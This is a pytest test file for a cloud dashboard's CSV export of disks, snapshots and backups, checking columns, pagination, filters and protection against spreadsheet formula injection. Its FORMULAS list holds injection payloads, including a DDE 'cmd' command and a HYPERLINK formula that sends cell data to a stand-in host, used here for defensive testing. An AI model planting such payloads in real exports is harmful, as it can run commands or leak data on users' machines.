"""Lists as CSV files: what is in them, and that no spreadsheet program runs what somebody wrote."""

import csv
import io
import json
import re
from html import unescape
from typing import Any

import pytest
import requests
from django.test import Client

from tests.support.canned import SignIn
from tests.support.fake_cloud import Answer, FakeCloud, an_id, backup, snapshot, volume
from tests.support.pages import HERE, text_of, words
from volumes.tables import plain

DISKS, SNAPSHOTS, BACKUPS = f"{HERE}/disks/", f"{HERE}/snapshots/", f"{HERE}/backups/"
OF_DISK = f"{DISKS}{an_id(1)}/snapshots/"
FILES = {
    DISKS: "disks",
    SNAPSHOTS: "snapshots",
    BACKUPS: "backups",
    OF_DISK: f"snapshots-{an_id(1)}",
}
EVERY = pytest.mark.parametrize("url", FILES)
BOM = b"\xef\xbb\xbf"


def lines(answer: Any) -> list[list[str]]:
    """The lines of a file, the header too."""
    assert answer.status_code == 200
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def column(answer: Any, title: str) -> list[str]:
    header, *rows = lines(answer)
    return [row[header.index(title)] for row in rows]


def file_name(answer: Any) -> str:
    found = re.fullmatch(r'attachment; filename="([a-z0-9-]+\.csv)"', answer["Content-Disposition"])
    assert found
    return found[1]


def export_link(answer: Any) -> str:
    """Where a page's link to the file leads."""
    found = re.search(r'<a href="([^"]+)">Export CSV</a>', text_of(answer))
    assert found, "no link to a file"
    return unescape(found[1])


def fill(cloud: FakeCloud, count: int, **changes: Any) -> None:
    numbers = range(count, 0, -1)
    cloud.volumes = [volume(number, **changes) for number in numbers]
    cloud.snapshots = [snapshot(20_000 + number, **changes) for number in numbers]
    cloud.backups = [backup(40_000 + number, **changes) for number in numbers]


@pytest.fixture(autouse=True)
def _one_of_each(cloud: FakeCloud) -> None:
    fill(cloud, 1)


def test_it_tells_all_of_a_disk(cloud: FakeCloud, signed_in: Client) -> None:
    attached = [{"server_id": an_id(5000), "device": "/dev/vdb"}, {"server_id": an_id(5001), "device": "/dev/vdb"}]
    changes: Answer = {"name": "Данные, новые", "status": "in-use", "bootable": "true", "attachments": attached}
    cloud.volumes = [volume(1, **changes, metadata={"a": "1", "б": "x=y"})]
    answer = signed_in.get(f"{DISKS}export/")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer.content.startswith(BOM)
    assert lines(answer) == [
        [
            *("Id", "Name", "Status", "Size (GiB)", "Type", "Availability zone", "Bootable", "Attached to"),
            *("Created (UTC)", "Properties"),
        ],
        [
            *(an_id(1), "Данные, новые", "in-use", "10", "ceph-ssd", "nova", "true"),
            *(f"{an_id(5000)} {an_id(5001)}", "2026-03-01T10:00:01Z", "a=1; б=x=y"),
        ],
    ]


def test_it_tells_all_of_a_snapshot(cloud: FakeCloud, signed_in: Client) -> None:
    cloud.snapshots = [snapshot(1001, description='two\nlines, "quoted"', metadata={"a": "1"})]
    for url in (SNAPSHOTS, OF_DISK):
        assert lines(signed_in.get(f"{url}export/")) == [
            ["Id", "Name", "Disk id", "Status", "Size (GiB)", "Created (UTC)", "Description", "Properties"],
            [
                *(an_id(1001), "snapshot-1001", an_id(1), "available", "10", "2026-03-02T10:00:41Z"),
                *('two\nlines, "quoted"', "a=1"),
            ],
        ]


def test_it_tells_all_of_a_backup(cloud: FakeCloud, signed_in: Client) -> None:
    cloud.backups = [backup(2001, snapshot_id=an_id(1001), is_incremental=True, created_at=None)]
    header, row = lines(signed_in.get(f"{BACKUPS}export/"))
    assert dict(zip(header, row, strict=True)) == {
        "Id": an_id(2001),
        "Name": "backup-2001",
        "Disk id": an_id(1),
        "Snapshot id": an_id(1001),
        "Status": "available",
        "Size (GiB)": "10",
        "Incremental": "true",
        "Created (UTC)": "",
        "Description": "",
        "Properties": "",
    }


def test_its_header_is_in_ones_language(signed_in: Client) -> None:
    header = lines(signed_in.get(f"{DISKS}export/", headers={"Accept-Language": "ru"}))[0]
    assert "Состояние" in header or "Статус" in header
    assert "Status" not in header


@EVERY
@pytest.mark.parametrize("count", [0, 1, 1_300])
def test_it_holds_all_there_are(cloud: FakeCloud, signed_in: Client, url: str, count: int) -> None:
    fill(cloud, count, volume_id=an_id(1))
    cloud.volumes = [volume(1)] if url == OF_DISK else cloud.volumes
    answer = signed_in.get(f"{url}export/")
    assert file_name(answer) == f"{FILES[url]}.csv"
    names = column(answer, "Name")
    assert len(names) == count
    assert len(set(names)) == count


@EVERY
def test_it_says_where_reading_stopped(cloud: FakeCloud, signed_in: Client, url: str) -> None:
    """Ten requests of a thousand; an operator's lower limit makes less of that."""
    fill(cloud, 101, volume_id=an_id(1))
    cloud.largest_limit = 10
    answer = signed_in.get(f"{url}export/")
    assert file_name(answer) == f"{FILES[url]}-incomplete.csv"
    *_rows, last = lines(answer)
    assert last == ["Incomplete: reading stopped after 100 entries. Narrow the list to get the rest."]
    assert len(lines(answer)) == 1 + 100 + 1
    assert sum("/detail" in one for one in cloud.asked()) == 10
    assert {one.qs["limit"][0] for one in cloud.requests() if "/detail" in one.url} == {"1000"}


def test_it_says_when_the_filter_can_not_be_decided(cloud: FakeCloud, signed_in: Client) -> None:
    fill(cloud, 101)
    cloud.largest_limit = 10
    cloud.volumes = [volume(1)]
    answer = signed_in.get(f"{DISKS}export/?no_snapshot_for=9999")
    assert file_name(answer) == "disks-incomplete.csv"
    [_header, told] = lines(answer)
    assert told == ["Incomplete: the project has too many snapshots to look through. Ask for fewer days."]


@EVERY
def test_the_page_links_to_what_it_shows(cloud: FakeCloud, signed_in: Client, url: str) -> None:
    fill(cloud, 130, volume_id=an_id(1))
    for one in (cloud.volumes, cloud.snapshots, cloud.backups):
        one[5]["name"] = "a & б"
        one[7]["name"] = "b & б"
    page = signed_in.get(url, {"q": "& б", "sort": "name", "per_page": "50"})
    answer = signed_in.get(export_link(page))
    assert export_link(page).startswith(f"{url}export/?")
    assert len(column(answer, "Name")) == 2
    assert cloud.query()["sort"].endswith(":asc")
    # Not only the page one looks at
    second = signed_in.get(f"{url}?marker={cloud.volumes[30]['id'] if url == DISKS else an_id(20_100)}")
    assert len(column(signed_in.get(export_link(second)), "Name")) == 130


def test_filters_narrow_it(cloud: FakeCloud, signed_in: Client) -> None:
    cloud.volumes = [volume(1, status="error"), volume(2), volume(3, bootable="true")]
    assert column(signed_in.get(f"{DISKS}export/?bootable=yes"), "Name") == ["disk-3"]
    page = signed_in.get(f"{DISKS}?status=error")
    assert column(signed_in.get(export_link(page)), "Name") == ["disk-1"]
    assert column(signed_in.get(f"{DISKS}export/?q=nothing"), "Name") == []


@EVERY
def test_an_empty_list_offers_none(cloud: FakeCloud, signed_in: Client, url: str) -> None:
    fill(cloud, 0)
    cloud.volumes = [volume(1)] if url == OF_DISK else []
    assert "Export CSV" not in words(signed_in.get(url))


@EVERY
def test_a_cloud_that_fails_halfway_gives_no_half_a_file(cloud: FakeCloud, signed_in: Client, url: str) -> None:
    fill(cloud, 30, volume_id=an_id(1))
    cloud.largest_limit = 10
    kind = "volumes" if url == DISKS else FILES[url].partition("-")[0]
    rows = {kind: getattr(cloud, kind)[:10], f"{kind}_links": [{"rel": "next", "href": "x"}]}
    cloud.http.get(cloud.at(f"/{kind}/detail"), [{"json": rows}, {"exc": requests.ReadTimeout("slow")}])
    answer = signed_in.get(f"{url}export/")
    assert answer.status_code == 503
    assert "Content-Disposition" not in answer
    assert "<html" in text_of(answer)


def test_a_reader_gets_it_too(cloud: FakeCloud, sign_in: SignIn) -> None:
    cloud.roles = ["reader"]
    client = sign_in()
    for url in FILES:
        assert len(lines(client.get(export_link(client.get(url))))) == 2


def test_it_is_no_change(signed_in: Client, audited: list[str]) -> None:
    signed_in.get(f"{DISKS}export/")
    assert audited == []


def test_without_backups_there_are_none_to_export(signed_in: Client, settings: Any) -> None:
    settings.BACKUPS = False
    assert signed_in.get(f"{BACKUPS}export/").status_code == 404


FORMULAS = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ttext",
    "\rtext",
    "  =1",
    " \t@x",
    "\xa0=1",
    "\u3000=1",
    "\u200b=1",
    "\ufeff=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " ＝1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.test/?"&A1)',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(cloud: FakeCloud, signed_in: Client, text: str) -> None:
    fill(cloud, 1, name=text, description=text, metadata={"=a": text}, availability_zone=text, volume_type=text)
    for url in (DISKS, SNAPSHOTS, BACKUPS):
        answer = signed_in.get(f"{url}export/")
        assert column(answer, "Name")[0].startswith("'")
        assert column(answer, "Properties")[0].startswith("'=a=")
        assert column(answer, "Size (GiB)") == ["10"]
    assert column(signed_in.get(f"{DISKS}export/"), "Type")[0].startswith("'")
    assert column(signed_in.get(f"{SNAPSHOTS}export/"), "Description")[0].startswith("'")


@pytest.mark.parametrize("text", ["x;=1", "x; \t=1", "x\n=1", 'x;"=1"', "x\r\n＝1", "x\t-1"])
def test_nor_is_one_where_a_cell_begins_for_others(text: str) -> None:
    """Excel splits at semicolons in many languages, whatever is quoted."""
    assert re.search(r"[;\t\r\n]'", plain(text))


@pytest.mark.parametrize("text", ["", "data", "a=1", "a-b+c@d", "Ёлка №1", "10", "a, -1", "x;y", "<b>", "'", " a"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert plain(text) == text


def test_what_is_no_unicode_makes_no_fault(cloud: FakeCloud, signed_in: Client) -> None:
    cloud.http.get(cloud.at("/volumes/detail"), text=json.dumps({"volumes": [volume(1, name="a\ud800b")]}))
    assert column(signed_in.get(f"{DISKS}export/"), "Name") == ["a?b"]
